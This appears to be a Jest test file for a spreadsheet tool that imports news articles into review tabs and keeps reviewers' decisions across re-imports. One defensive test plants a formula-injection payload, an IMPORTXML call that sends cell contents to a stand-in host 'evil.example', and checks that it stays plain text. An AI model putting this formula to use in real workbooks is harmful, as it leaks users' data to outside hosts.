import { MEETING, reopened, savedAfter, TestWorkbook } from './support/open-workbook';

const empty = savedAfter((workbook) => {
  workbook.call('pageSetUp');
  workbook.cutEmptyRows();
});
const imported = savedAfter((workbook) => workbook.importTexts({ name: 'a', text: MEETING }), empty);

const DATA_TABS = ['Articles', 'Events', 'Cooperation', 'Officials', 'Figures', 'Texts'];

function snapshot(workbook: TestWorkbook, tabs = DATA_TABS): string {
  return JSON.stringify(tabs.map((tab) => [workbook.person.values(tab), workbook.person.formulas(tab)]));
}

describe('importing the samples', () => {
  const workbook = new TestWorkbook();
  workbook.importSamples();

  test('fills Articles, Texts and the tabs that people review', () => {
    expect(workbook.rows('Articles')).toHaveLength(5);
    expect(workbook.rows('Texts')).toHaveLength(5);
    for (const tab of ['Events', 'Cooperation', 'Officials', 'Figures'])
      expect(workbook.rows(tab).length).toBeGreaterThan(0);
  });

  test('every row carries evidence that stands in its article, word for word', () => {
    const texts = new Map(workbook.rows('Texts').map((row) => [row['Article id'], row.Text ?? '']));
    for (const tab of ['Cooperation', 'Officials', 'Figures']) {
      for (const row of workbook.rows(tab)) {
        const [start, end] = row['Evidence at']!.split('-').map(Number);
        expect(texts.get(row['Article id'])!.slice(start, end)).toBe(row.Evidence);
      }
    }
  });

  test('a second import changes nothing', () => {
    const before = snapshot(workbook);
    workbook.importSamples();
    expect(snapshot(workbook)).toBe(before);
  });

  test('costs at most 20 document calls a slice, however many articles', () => {
    const calls = (count: number) => {
      // With its empty rows: adding some is a call more.
      const fresh = new TestWorkbook();
      fresh.call('pageSetUp');
      const sources = Array.from({ length: count }, (_, i) => ({
        name: `a${i}`,
        text: `${MEETING} Report ${i}.`,
      }));
      return {
        stage: fresh.measure('pageStage', [sources]).ledger.calls,
        propose: fresh.measure('pagePropose', []).ledger.calls,
      };
    };
    const few = calls(2);
    const many = calls(30);
    expect(many).toEqual(few);
    expect(many.stage).toBeLessThanOrEqual(20);
    expect(many.propose).toBeLessThanOrEqual(20);
  });

  test('costs no more where every tab is full: rows are added in a call of their own', () => {
    const full = reopened(empty);
    const sources = Array.from({ length: 30 }, (_, i) => ({
      name: `a${i}`,
      text: `${MEETING} Report ${i}.`,
    }));
    const steps = [full.measure('pageStage', [sources])];
    const reports = [];
    do {
      steps.push(full.measure('pagePropose', []));
      reports.push(steps.at(-1)!.result as { done: number; left: number });
    } while (reports.at(-1)!.left > 0);
    expect(reports).toMatchObject([
      { done: 0, left: 30 },
      { done: 30, left: 0 },
    ]);
    for (const { ledger } of steps) expect(ledger.calls).toBeLessThanOrEqual(20);
    // The next ones find room.
    expect(full.person.tab('Cooperation').maxRows - full.rows('Cooperation').length).toBeGreaterThan(300);
  });
});

describe('bad input', () => {
  const invisible = ['', '\u200b', '\u202e', '\ufeff', ' \t', '\u00a0', "'"];

  test('texts that start with =IMPORTXML(...), whatever invisible stands before it, stay text everywhere', () => {
    const workbook = reopened(empty);
    const sources = invisible.map((prefix, index) => ({
      name: `evil ${index}`,
      text: `${prefix}=IMPORTXML("https://evil.example/?"&A1,"//a")\n${MEETING} Number ${index}.`,
      title: `${prefix}=1+1`,
      outlet: '+1',
      url: '@x',
    }));
    workbook.importTexts(...sources);
    for (const tab of workbook.person.tabs())
      expect(workbook.person.formulas(tab).flat().filter(Boolean)).toEqual([]);
    expect(workbook.rows('Texts').map((row) => row.Text)).toEqual(
      sources.map(({ text }) => text.replace(/^\ufeff/, '')),
    );
  });

  test('each unusable text is named with its fix, and the others are imported', () => {
    const workbook = reopened(empty);
    const { outcomes } = workbook.importTexts(
      { name: 'empty.txt', text: ' \n ' },
      { name: 'binary.txt', text: '\u0000\u0001\u0002'.repeat(100) },
      { name: 'good.txt', text: MEETING },
      { name: 'again.txt', text: MEETING.replace(/ /g, '  ') },
      { name: 'date.txt', text: `${MEETING} More.`, published_on: '04/03/2019' },
    );
    expect(outcomes.map(({ name, result }) => [name, result])).toEqual([
      ['empty.txt', 'text-empty'],
      ['binary.txt', 'text-binary'],
      ['good.txt', 'imported'],
      ['again.txt', 'already-there'],
      ['date.txt', 'date-form'],
    ]);
    expect(workbook.rows('Articles')).toHaveLength(1);
  });

  test('a text of 200,000 characters is kept whole', () => {
    const workbook = reopened(empty);
    const text = `${MEETING}\n`.repeat(Math.ceil(200_000 / MEETING.length)).slice(0, 200_000);
    workbook.importTexts({ name: 'long', text });
    expect(
      workbook
        .rows('Texts')
        .map((row) => row.Text)
        .join(''),
    ).toBe(text);
  });

  test('tabs that were renamed and columns that were moved, renamed and hidden are found', () => {
    const workbook = reopened(empty);
    workbook.person.renameTab('Cooperation', 'Rows');
    workbook.person.moveColumns('Rows', 2, 1, 6);
    workbook.person.insertColumnsBefore('Rows', 3);
    workbook.person.setCell('Rows', 1, 3, 'My own column');
    const evidence = workbook.person.displayValues('Rows')[0]!.indexOf('Evidence') + 1;
    workbook.person.setCell('Rows', 1, evidence, 'Quotation');
    workbook.person.hideColumns('Rows', 1);
    workbook.importTexts({ name: 'a', text: MEETING });
    const rows = workbook.rows('Rows');
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) {
      expect(MEETING).toContain(row.Quotation);
      expect(row.Domain).toMatch(/^[a-z_]+$/);
      expect(row['My own column']).toBe('');
    }
  });

  test('a deleted text is restored by importing the article again', () => {
    const workbook = reopened(imported);
    workbook.person.deleteRows('Texts', 2);
    workbook.type('Articles', () => true, 'Published on', '2021-05-06');
    expect(workbook.call('pagePropose')).toMatchObject({ done: 0, left: 0 });
    expect(workbook.importTexts({ name: 'a', text: MEETING }).outcomes[0]?.result).toBe('text-restored');
    expect(workbook.rows('Texts').map((row) => row.Text)).toEqual([MEETING]);
  });
});

describe('what people decided survives', () => {
  const isEvent = (row: Record<string, string>) => row.Event !== '';

  test('a corrected value survives a re-import and a new publication date', () => {
    const workbook = reopened(imported);
    workbook.type('Events', isEvent, 'Place', 'Mombasa');
    workbook.type('Events', isEvent, 'Review', 'corrected');
    workbook.type('Articles', () => true, 'Published on', '2021-05-06');
    workbook.importTexts({ name: 'a', text: MEETING });
    expect(workbook.rows('Events')[0]?.Place).toBe('Mombasa');
  });

  test('a cell that was typed over without a review is kept, and the rest of the row follows', () => {
    const workbook = reopened(imported);
    workbook.type('Events', isEvent, 'Place', 'Mombasa');
    workbook.type('Articles', () => true, 'Published on', '2021-05-06');
    workbook.importTexts({ name: 'a', text: MEETING });
    expect(workbook.rows('Events')[0]).toMatchObject({ Place: 'Mombasa', Date: '2021-05-04' });
  });

  test('a rejected row is never proposed again', () => {
    const workbook = reopened(imported);
    const before = workbook.rows('Cooperation').length;
    workbook.type('Cooperation', () => true, 'Review', 'rejected');
    workbook.type('Articles', () => true, 'Published on', '2021-05-06');
    workbook.importTexts({ name: 'a', text: MEETING });
    expect(workbook.rows('Cooperation')).toHaveLength(before);
    expect(workbook.rows('Cooperation')[0]?.Review).toBe('rejected');
  });

  test("entering a publication date resolves 'on Tuesday' on suggestions and re-queues accepted rows, once", () => {
    const workbook = reopened(empty);
    workbook.importTexts(
      { name: 'a', text: MEETING },
      { name: 'b', text: MEETING.replace(/Nairobi/g, 'Mombasa') },
    );
    expect(workbook.rows('Events').map((row) => row.Date)).toEqual(['', '']);
    workbook.type('Events', isEvent, 'Review', 'accepted');
    for (const title of workbook.rows('Articles').map((row) => row['Article id'])) {
      workbook.type('Articles', (row) => row['Article id'] === title, 'Published on', '2021-05-06');
    }
    expect(workbook.call('pagePropose').requeued).toBe(1);
    // 6 May 2021 was a Thursday.
    expect(workbook.rows('Events').map(({ Review, Date }) => [Review, Date])).toEqual([
      ['question', ''],
      ['suggested', '2021-05-04'],
    ]);
    workbook.type('Events', isEvent, 'Review', 'accepted');
    expect(workbook.call('pagePropose').requeued).toBe(0);
    expect(workbook.rows('Events')[0]?.Review).toBe('accepted');
  });
});
